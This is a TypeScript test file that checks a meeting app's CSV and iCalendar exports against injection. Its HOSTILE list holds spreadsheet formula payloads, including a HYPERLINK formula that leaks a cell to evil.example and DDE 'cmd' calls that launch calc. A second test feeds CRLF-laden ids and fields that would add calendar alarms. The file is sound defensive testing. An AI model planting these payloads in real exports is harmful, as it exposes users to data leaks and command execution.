/**
 * Exports are safe in the programs that open them: no CSV cell is a formula to a spreadsheet, and no
 * .ics value or id can end its line and add a property or component. Titles and ids as an imported list
 * or any editor could write them.
 */
import { describe, expect, it } from 'vitest';
import { parse } from 'csv-parse/sync';
import { exportMeeting, importMeeting } from '../../shared/formats/index.js';
import { parseMeeting } from '../../shared/document/validateMeeting.js';
import type { MeetingJson } from '../../shared/document/meetingSchema.js';
import { sampleMeeting } from '../formats/sampleMeeting.js';

const HOSTILE = [
  '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
  "+cmd|' /C calc'!A0",
  '-2+3+cmd|\' /C calc\'!A0',
  '@SUM(1+1)*cmd|\' /C calc\'!A0',
  '\t=1+1',
  '\r=1+1',
  "'=already quoted",
  "''+twice",
];
const HARMLESS = ['-5', '+3.5', '-', 'S2-2000001', 'Plain title'];

function meetingWith(values: string[]): MeetingJson {
  const m = sampleMeeting();
  const item = m.agenda[0].id;
  m.contributions = values.map((v, i) => ({ ...m.contributions[0], id: `c${i}`, number: `SEC-2026-${String(i + 1).padStart(4, '0')}`, title: v, source: v, agendaItemId: item, revisionOf: null, mergedInto: null }));
  const res = parseMeeting(m);
  if (!res.ok) throw new Error(JSON.stringify(res.errors.slice(0, 2)));
  return res.value;
}

describe('exports opened by other programs', () => {
  it('G-EXP-1: no CSV cell is a formula to a spreadsheet (OWASP: a leading apostrophe), numbers and dashes stay, and the list reads back as it was', async () => {
    const m = meetingWith([...HOSTILE, ...HARMLESS]);
    const csv = String((await exportMeeting(m, 'csv')).data);
    const cells = (parse(csv, { bom: true, relax_column_count: true }) as string[][]).flat();
    const formulas = cells.filter((c) => /^[=+\-@\t\r]/.test(c) && !/^([+-]?\d+([.,]\d+)?|-+)$/.test(c));
    expect(formulas).toEqual([]);
    for (const h of HARMLESS) expect(cells).toContain(h);
    expect(cells).toContain(`'${HOSTILE[0]}`);
    const back = (await importMeeting(new TextEncoder().encode(csv), { format: 'csv' })).meeting;
    const byNumber = new Map(back.contributions.map((c) => [c.number, c]));
    for (const c of m.contributions) {
      expect(byNumber.get(c.number)?.title, c.title).toBe(c.title.trim());
      expect(byNumber.get(c.number)?.source, c.source).toBe(c.source.trim());
    }
  });

  it('G-EXP-2: .ics text is escaped as RFC 5545 says (backslash, ; , newline; a bare CR removed) and UIDs from ids cannot add lines', async () => {
    const m = sampleMeeting();
    const s = m.sessions[0];
    m.sessions = [
      { ...s, id: 'evil\r\nBEGIN:VALARM\r\nACTION:AUDIO\r\nEND:VALARM', title: 'Title\rwith a bare CR; a semicolon, a comma\\ and\na newline', room: 'Room\r\nX-INJECTED:1', date: s.date || '2016-05-16' },
    ];
    const ics = String((await exportMeeting(m, 'ics')).data);
    expect(ics).not.toMatch(/\r(?!\n)/);
    const lines = ics.split('\r\n').filter(Boolean);
    // Every line is a property ("NAME[;PARAM=...]:value") or a folded continuation (leading space).
    for (const line of lines) expect(line, line).toMatch(/^( |[A-Z][A-Z0-9-]*[;:])/);
    const names = lines.filter((l) => !l.startsWith(' ')).map((l) => /^[A-Z][A-Z0-9-]*/.exec(l)![0]);
    expect(names).not.toContain('ACTION');
    expect(names).not.toContain('X-INJECTED');
    expect(lines.filter((l) => l.startsWith('BEGIN:')).map((l) => l.slice(6))).toEqual(expect.not.arrayContaining(['VALARM']));
    const unfolded = ics.replace(/\r\n /g, '');
    expect(unfolded).toContain('UID:evil%0D%0ABEGIN%3AVALARM%0D%0AACTION%3AAUDIO%0D%0AEND%3AVALARM@plenary');
    expect(unfolded).toContain('SUMMARY:');
    expect(unfolded).toContain('Titlewith a bare CR\\; a semicolon\\, a comma\\\\ and\\na newline');
  });
});
